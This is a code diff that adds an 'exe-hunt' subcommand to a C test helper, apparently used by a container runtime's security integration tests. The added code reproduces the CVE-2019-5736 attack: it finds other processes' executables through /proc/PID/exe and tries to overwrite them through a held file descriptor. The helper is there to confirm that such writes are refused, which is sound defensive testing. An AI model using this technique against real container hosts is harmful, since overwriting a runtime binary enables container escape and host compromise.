@@ -59,7 +59,8 @@ static const char usage_text[] =
 	"                                 umount2 unshare-user setns pivot_root ptrace bpf\n"
 	"                                 perf_event_open kexec_load init_module finit_module\n"
 	"                                 delete_module reboot swapon keyctl userfaultfd clone\n"
-	"                                 clone-newuser clone3\n";
+	"                                 clone-newuser clone3\n"
+	"  exe-hunt SECONDS NEEDLE        CVE-2019-5736 attacker: see do_exe_hunt\n";
 
 static int usage(void)
 {
@@ -606,6 +607,109 @@ static int do_syscall(int argc, char **argv)
 }
 /* ---- end of syscall ---- */
 
+/* ---- exe-hunt: the CVE-2019-5736 attacker (integration/security.bats) ----
+ * For SECONDS, scans /proc/PID/exe of every other process it can see; each one whose
+ * link target contains NEEDLE is opened read-only at once (print "open TARGET", or
+ * "open-failed TARGET: ERR") and held. Then, for each held file, retries for a second
+ * to reopen it for writing through /proc/self/fd/N (ETXTBSY while it still runs) and to
+ * write a marker: "wrote TARGET" when that worked, "write-refused TARGET: ERR" when not.
+ * Ends with "hunt done". Exit 0 either way: the test judges the lines and the file. */
+#define EXE_HUNT_MAX 64
+
+static double exe_hunt_now(void)
+{
+	struct timespec ts;
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static int exe_hunt_write(int fd, const char *target)
+{
+	static const char marker[] = "overwritten by fbhelper exe-hunt\n";
+	char path[64];
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	int err = 0;
+	for (int i = 0; i < 100; i++) {
+		int w = open(path, O_WRONLY | O_CLOEXEC);
+		if (w >= 0) {
+			int ok = write_all(w, marker, sizeof marker - 1) == 0;
+			err = errno;
+			close(w);
+			if (ok) {
+				printf("wrote %s\n", target);
+				return 1;
+			}
+			break;
+		}
+		err = errno;
+		if (err != ETXTBSY)
+			break;
+		struct timespec ts = {0, 10 * 1000 * 1000};
+		nanosleep(&ts, NULL);
+	}
+	printf("write-refused %s: %s\n", target, strerror(err));
+	return 0;
+}
+
+static int do_exe_hunt(const char *secs_arg, const char *needle)
+{
+	char *end;
+	double secs = strtod(secs_arg, &end);
+	if (end == secs_arg || *end || secs < 0)
+		return usage();
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	int held[EXE_HUNT_MAX];
+	pid_t held_pid[EXE_HUNT_MAX];
+	char held_target[EXE_HUNT_MAX][PATH_MAX];
+	int nheld = 0;
+	pid_t self = getpid();
+	printf("hunting\n");
+	for (double deadline = exe_hunt_now() + secs; exe_hunt_now() < deadline;) {
+		DIR *d = opendir("/proc");
+		if (!d)
+			return fail("opendir", "/proc");
+		struct dirent *e;
+		while ((e = readdir(d)) && nheld < EXE_HUNT_MAX) {
+			char *pend;
+			long pid = strtol(e->d_name, &pend, 10);
+			if (*pend || pid <= 0 || pid == self)
+				continue;
+			int known = 0;
+			for (int i = 0; i < nheld; i++)
+				known |= held_pid[i] == pid;
+			if (known)
+				continue;
+			char link[64], target[PATH_MAX];
+			snprintf(link, sizeof link, "/proc/%ld/exe", pid);
+			ssize_t n = readlink(link, target, sizeof target - 1);
+			if (n < 0)
+				continue; /* gone, a kernel thread, or not dumpable */
+			target[n] = 0;
+			if (!strstr(target, needle))
+				continue;
+			int fd = open(link, O_RDONLY | O_CLOEXEC);
+			if (fd < 0) {
+				if (errno != ENOENT && errno != ESRCH)
+					printf("open-failed %s: %s\n", target, strerror(errno));
+				continue;
+			}
+			printf("open %s\n", target);
+			held[nheld] = fd;
+			held_pid[nheld] = (pid_t)pid;
+			memcpy(held_target[nheld], target, (size_t)n + 1);
+			nheld++;
+		}
+		closedir(d);
+	}
+	for (int i = 0; i < nheld; i++) {
+		exe_hunt_write(held[i], held_target[i]);
+		close(held[i]);
+	}
+	printf("hunt done\n");
+	return 0;
+}
+/* ---- end of exe-hunt ---- */
+
 int main(int argc, char **argv)
 {
 	if (argc < 2)
@@ -678,6 +782,8 @@ int main(int argc, char **argv)
 		return do_kill_self(argv[2]);
 	if (!strcmp(cmd, "syscall"))
 		return do_syscall(argc, argv);
+	if (IS("exe-hunt", 2))
+		return do_exe_hunt(argv[2], argv[3]);
 #undef IS
 	fprintf(stderr, "fbhelper: unknown command or wrong arguments: %s\n", cmd);
 	return usage();
